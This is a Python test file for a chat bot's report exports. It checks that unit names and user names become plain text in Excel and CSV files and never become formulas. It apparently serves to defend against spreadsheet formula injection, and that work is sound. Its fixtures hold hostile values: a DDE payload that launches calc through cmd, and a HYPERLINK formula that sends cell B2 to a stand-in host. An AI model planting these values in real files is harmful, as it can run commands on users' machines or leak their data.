"""Every text a spreadsheet opens is data: hostile names and unit names never become formulas in
the files the bot sends (`/thongke` Excel and CSV, a broadcast's undelivered list) or in
`canhgiac stats report`."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from bot.cli.app import app
from bot.offline import OfflineBot
from bot.storage.models import Role, Unit
from tests.e2e.helpers import World, add_invite, join
from tests.e2e.test_broadcast import compose, wait_text

OFFICER, TRAINER, MAI, DUC = 850001, 850002, 850003, 850004
HYPERLINK = '=HYPERLINK("http://x/?"&B2,"Click")'
UNIT_NAMES = {
    "HOSTILE-1": "=cmd|' /C calc'!A0",
    "HOSTILE-2": "+1",
    "HOSTILE-3": "@SUM(1)",
    "HOSTILE-4": "-2+3",
    "HOSTILE-5": "\t=1+1",
    "HOSTILE-6": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_xlsx_has_no_formula(data: bytes, *, expect: tuple[str, ...]) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
                    texts.append(cell.value)
    for value in expect:
        assert "'" + value in texts, f"{value!r} is not in the file as text"
    return texts


def assert_csv_has_no_formula(data: bytes, *, expect: tuple[str, ...]) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    fields = [field for row in rows for field in row]
    for field in fields:
        assert not field.startswith(FORMULA_STARTS), field
    for value in expect:
        assert "'" + value in fields, f"{value!r} is not in the file as text"


async def _hostile_units(offline: OfflineBot, world: World) -> None:
    async with offline.storage.sessionmaker() as session:
        units = [
            Unit(code=code, name=name, kind="class", parent_id=world.unit.id)
            for code, name in UNIT_NAMES.items()
        ]
        session.add_all(units)
        await session.commit()
        await add_invite(session, "CB-A", world.unit, Role.OFFICER)
        await add_invite(session, "GV-A", world.unit, Role.TRAINER)
        await add_invite(session, "HS-H1", units[0])


async def test_hostile_names_are_text_in_every_file(
    offline: OfflineBot, world: World, database_url: str, tmp_path: Path
) -> None:
    await _hostile_units(offline, world)
    officer = offline.chat(OFFICER, first_name="Hoa", language_code="en")
    trainer = offline.chat(TRAINER, first_name="Nam", language_code="en")
    mai = offline.chat(MAI, first_name=HYPERLINK)
    offline.emulator.add_user(MAI, first_name=HYPERLINK, username="mai_hostile")
    duc = offline.chat(DUC, first_name="@Đức")
    await join(officer, "CB-A")
    await join(trainer, "GV-A")
    await join(mai, "HS-H1")
    await join(duc, "HS-A")

    table = (await officer.send("/thongke"))[-1]
    sheet_message = (await officer.press("📗", table))[-1]
    assert sheet_message.document is not None
    texts = assert_xlsx_has_no_formula(
        sheet_message.document, expect=(*UNIT_NAMES.values(), HYPERLINK, "@Đức")
    )
    assert "mai_hostile" in texts  # a username needs no escaping: it is written without "@"
    csv_message = (await officer.press("📄", table))[-1]
    assert csv_message.document is not None
    assert_csv_has_no_formula(csv_message.document, expect=tuple(UNIT_NAMES.values()))

    # A broadcast the hostile names do not get: they are listed in the undelivered file.
    offline.emulator.block(MAI)
    offline.emulator.block(DUC)
    await compose(trainer, units=["Trường THPT A"])
    await trainer.press("Preview")
    await trainer.press("✅ Send")
    await wait_text(offline.emulator, TRAINER, "Report of broadcast")
    await offline.emulator.wait_until(
        lambda: offline.emulator.messages(TRAINER)[-1].document is not None, 5
    )
    undelivered = offline.emulator.messages(TRAINER)[-1].document
    assert undelivered is not None
    assert_csv_has_no_formula(undelivered, expect=(HYPERLINK, "@Đức"))

    for kind in ("xlsx", "csv"):
        target = tmp_path / f"report.{kind}"
        result = await asyncio.to_thread(
            CliRunner().invoke,
            app,
            ["stats", "report", "--unit", "TRUONG-A", "--format", kind, "-o", str(target)],
            env={"DATABASE_URL": database_url, "BOT_TOKEN": ""},
        )
        assert result.exit_code == 0, result.output
        if kind == "xlsx":
            assert_xlsx_has_no_formula(
                target.read_bytes(), expect=(*UNIT_NAMES.values(), HYPERLINK, "@Đức")
            )
        else:
            assert_csv_has_no_formula(target.read_bytes(), expect=tuple(UNIT_NAMES.values()))
    assert offline.emulator.violations == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("-5 kg", "'-5 kg"), ("Lan", "Lan"), ("", ""), ("a=b", "a=b")],
)
def test_safe_text(value: str, expected: str) -> None:
    from bot.reports.safe_cells import safe_text

    assert safe_text(value) == expected
